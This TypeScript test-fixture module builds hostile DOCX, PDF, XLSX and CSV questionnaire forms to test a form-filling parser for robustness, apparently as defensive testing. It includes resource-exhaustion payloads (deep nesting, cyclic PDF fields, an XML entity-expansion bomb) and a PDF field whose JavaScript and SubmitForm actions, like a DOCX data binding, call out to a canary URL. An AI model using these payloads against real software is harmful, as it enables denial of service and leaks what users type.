import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { document, paragraph } from './documents.ts'
import { canary, type HostileFile, join, utf8 } from './hostile-file.ts'
import { onePage, type PdfObject } from './pdf-parts.ts'
import { tableWorkbook } from './workbooks.ts'

const question = 'What was your total energy consumption in 2025?'
const control = (inside: string) => `<w:sdt><w:sdtPr><w:text/></w:sdtPr><w:sdtContent>${inside}</w:sdtContent></w:sdt>`
const box =
  '<w:sdt><w:sdtPr><w14:checkbox xmlns:w14="w14"/></w:sdtPr><w:sdtContent><w:r><w:t>☐</w:t></w:r></w:sdtContent></w:sdt>'
const row = (...cells: string[]) => `<w:tr>${cells.map((cell) => `<w:tc>${paragraph(cell)}</w:tc>`).join('')}</w:tr>`

/** A PDF with these fields; each is a widget of its page as well. */
const fields = (own: readonly string[], catalogue = '') =>
  onePage({
    catalogue: `/AcroForm << /Fields [${own.map((_, n) => `${n + 6} 0 R`).join(' ')}] /DA (/Helv 0 Tf 0 g) ${catalogue} >>`,
    more: own.map((one): PdfObject => `<< /Type /Annot /Subtype /Widget /Rect [50 700 300 720] /P 3 0 R ${one} >>`),
  })
const text = (name: string, more = '') => `/FT /Tx /T (${name}) ${more}`

/** A workbook of one question with something put into one of its parts. */
function bookWith(part: string, before: string, inside: string): Uint8Array {
  const parts = unzipSync(
    tableWorkbook([
      ['Question', 'Answer'],
      [question, ''],
    ]),
  )
  return zipSync({ ...parts, [part]: strToU8(strFromU8(parts[part]!).replace(before, () => inside + before)) })
}
const named = (names: string) => bookWith('xl/workbook.xml', '</workbook>', `<definedNames>${names}</definedNames>`)
const sheet = 'xl/worksheets/sheet1.xml'

/** Forms that are sent to be answered, made to exhaust whatever looks for their questions, or fills them. */
export const forms: HostileFile[] = [
  {
    name: 'controls.docx',
    about: '60,000 controls',
    make: () => document(paragraph(question) + `<w:p>${control('<w:r><w:t>x</w:t></w:r>')}</w:p>`.repeat(60_000)),
  },
  {
    name: 'within.docx',
    about: 'controls 5,000 deep in one another',
    make: () =>
      document(
        `<w:p>${'<w:sdt><w:sdtContent>'.repeat(5_000)}<w:r><w:t>${question}</w:t></w:r>${'</w:sdtContent></w:sdt>'.repeat(5_000)}</w:p>`,
      ),
  },
  { name: 'boxes.docx', about: '100,000 boxes in one line', make: () => document(`<w:p>${box.repeat(100_000)}</w:p>`) },
  {
    name: 'lines.docx',
    about: '3 MB of dots to write on',
    make: () => document(paragraph(question) + paragraph('.'.repeat(3_000_000)) + paragraph('_ '.repeat(500_000))),
  },
  {
    name: 'questions.docx',
    about: '30,000 questions',
    make: () =>
      document(Array.from({ length: 30_000 }, (_, n) => paragraph(`${n}. ${question}`) + paragraph('')).join('')),
  },
  {
    name: 'table.docx',
    about: 'a table of 20,000 questions',
    make: () => document(`<w:tbl>${row('Question', 'Answer')}${row(question, '').repeat(20_000)}</w:tbl>`),
  },
  {
    name: 'columns.docx',
    about: 'a row of 20,000 cells, merged and not',
    make: () =>
      document(
        `<w:tbl><w:tr>${'<w:tc><w:tcPr><w:gridSpan w:val="999999999"/><w:vMerge/></w:tcPr><w:p/></w:tc>'.repeat(20_000)}</w:tr>${row(question, '')}</w:tbl>`,
      ),
  },
  {
    name: 'fetched.docx',
    about: 'a control that is bound to data elsewhere',
    make: () =>
      document(
        `${paragraph(question)}<w:p><w:sdt><w:sdtPr><w:dataBinding w:xpath="document('${canary}/')" w:storeItemID="{x}"/></w:sdtPr><w:sdtContent><w:r><w:t/></w:r></w:sdtContent></w:sdt></w:p>`,
      ),
  },
  {
    name: 'fields.pdf',
    about: '20,000 fields in one place',
    make: () => fields(Array.from({ length: 20_000 }, (_, n) => text(`f${n}`))),
  },
  {
    name: 'parents.pdf',
    about: 'a field that is its own parent',
    make: () => fields([text('a', '/Parent 6 0 R /Kids [6 0 R]')]),
  },
  {
    name: 'circle.pdf',
    about: 'fields that hold each other',
    make: () => fields([text('a', '/Kids [7 0 R]'), text('b', '/Kids [6 0 R] /Parent 6 0 R')]),
  },
  { name: 'name.pdf', about: 'a field with a name of 2 MB', make: () => fields([text('n'.repeat(2_000_000))]) },
  {
    name: 'options.pdf',
    about: 'a list of 100,000 options',
    make: () => fields([`/FT /Ch /T (a) /Opt [${'(an option)'.repeat(100_000)}]`]),
  },
  {
    name: 'actions.pdf',
    about: 'fields that run scripts and send what is typed',
    make: () =>
      fields([
        text(
          'a',
          `/AA << /K << /S /JavaScript /JS (app.launchURL\\('${canary}/'\\)) >> /F << /S /SubmitForm /F << /FS /URL /F (${canary}/) >> >> >>`,
        ),
      ]),
  },
  {
    name: 'xfa.pdf',
    about: 'a form in a form, with entities that grow',
    make: () => {
      const entities = `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(1000)}"><!ENTITY b "${'&a;'.repeat(1000)}">]><x>&b;</x>`
      return onePage({
        catalogue: '/AcroForm << /Fields [] /XFA 6 0 R >>',
        more: [{ dictionary: '', stream: join(entities) }],
      })
    },
  },
  {
    name: 'names.xlsx',
    about: 'names that stand for one another',
    make: () =>
      named(
        Array.from(
          { length: 2_000 },
          (_, n) => `<definedName name="n${n}">n${(n + 1) % 2_000}+n${(n + 7) % 2_000}</definedName>`,
        ).join(''),
      ),
  },
  {
    name: 'template.xlsx',
    about: 'the names of an official template on the whole grid',
    make: () =>
      named(
        ['TotalEnergyConsumption', 'Turnover', 'Assets', 'NumberOfEmployees', 'TotalUseOfLand', 'TypeOfWasteAxis']
          .flatMap((name) => [name, `${name}_unit`])
          .concat([
            'IdentifierOfSiteTypedAxis',
            'AddressOfSite',
            'CityOfSite',
            'SiteLocatedInABiodiversitySensitiveArea',
          ])
          .concat(['NaceSectorClassificationCodes', 'NameOfTheSubsidiary', 'TotalSealedArea', 'TotalWaterConsumption'])
          .map((name) => `<definedName name="${name}">S1!$A$1:$XFD$1048576</definedName>`)
          .join(''),
      ),
  },
  {
    name: 'lists.xlsx',
    about: '50,000 lists over the whole sheet',
    make: () =>
      bookWith(
        sheet,
        '</worksheet>',
        `<dataValidations>${'<dataValidation type="list" sqref="A1:XFD1048576"><formula1>$A$1:$XFD$1048576</formula1></dataValidation>'.repeat(50_000)}</dataValidations>`,
      ),
  },
  {
    name: 'merged.xlsx',
    about: '100,000 merged cells in one another',
    make: () =>
      bookWith(sheet, '</worksheet>', `<mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(100_000)}</mergeCells>`),
  },
  {
    name: 'formulas.xlsx',
    about: '30,000 formulas that follow from one another upwards',
    make: () =>
      bookWith(
        sheet,
        '</sheetData>',
        Array.from(
          { length: 30_000 },
          (_, n) => `<row r="${n + 10}"><c r="C${n + 10}"><f>C${n + 11}+SUM(A:B)</f><v>1</v></c></row>`,
        ).join(''),
      ),
  },
  {
    name: 'questions.csv',
    about: '200,000 questions',
    make: () => utf8(`Question,Answer\n${`${question},\n`.repeat(200_000)}`),
  },
  {
    name: 'options.csv',
    about: 'a question with 5 MB of options',
    make: () => utf8(`Question,Options,Answer\n${question},"${'an option; '.repeat(450_000)}",\n`),
  },
]
